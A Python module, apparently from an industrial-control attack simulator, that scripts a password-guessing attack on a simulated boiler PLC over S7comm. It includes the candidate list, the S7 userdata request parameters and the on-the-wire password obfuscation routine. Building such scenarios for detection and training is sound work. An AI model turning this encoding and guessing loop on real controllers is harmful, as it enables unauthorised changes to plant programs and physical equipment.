"""The boiler controller's protection password is guessed."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING, Final

from interlock.plant.actors.steps import Ask, Close, Link, Wait
from interlock.plant.attacks.logon import Logon
from interlock.plant.attacks.scenario import Scenario, Scene
from interlock.plant.protocols import s7comm

if TYPE_CHECKING:
    from interlock.plant.actors.steps import Script

__all__ = ["SCENARIO"]

_GUESSED: Final = Logon(
    machine="plc-boiler", service="S7comm", user="", how="guess",
    passwords=tuple(f"{word}{number:02d}" for word in ("boiler", "kessel") for number in range(60)),
)  # fmt: skip
"""Words with two digits behind, at most eight octets as the controller takes them."""

_PARAMETER: Final = b"\x00\x01\x12\x04\x11\x45\x01\x00"


def _script(scene: Scene) -> Script:
    link = Link("vendor-laptop", "plc-boiler", 102)
    yield Ask(link, s7comm.connect())
    yield Ask(link, s7comm.setup(1))
    for k, guess in enumerate(_GUESSED.passwords):
        data = struct.pack("!BBH", 0xFF, 0x09, 8) + _hidden(guess.encode("ascii").ljust(8))
        yield Ask(link, s7comm.job(2 + k, _PARAMETER, data, s7comm.USERDATA))
        yield Wait(scene.draws.uniform(0.1, 0.4))
    yield Close(link)


def _hidden(password: bytes) -> bytes:
    """As on the wire: each octet exclusive-ored with 0x55 and, from the third on, with the one sent two before."""
    octets = bytearray()
    for k, octet in enumerate(password):
        octets.append(octet ^ 0x55 ^ (octets[k - 2] if k > 1 else 0))
    return bytes(octets)


SCENARIO: Final = Scenario(
    name="s7-password-guessing",
    title="A service laptop guesses the password of the boiler's controller, 120 times",
    technique="T0859",
    attacker="vendor-laptop",
    victims=("plc-boiler",),
    harm="Nothing moves until a guess is right; then the program can be changed.",
    script=_script,
    logons=(_GUESSED,),
)
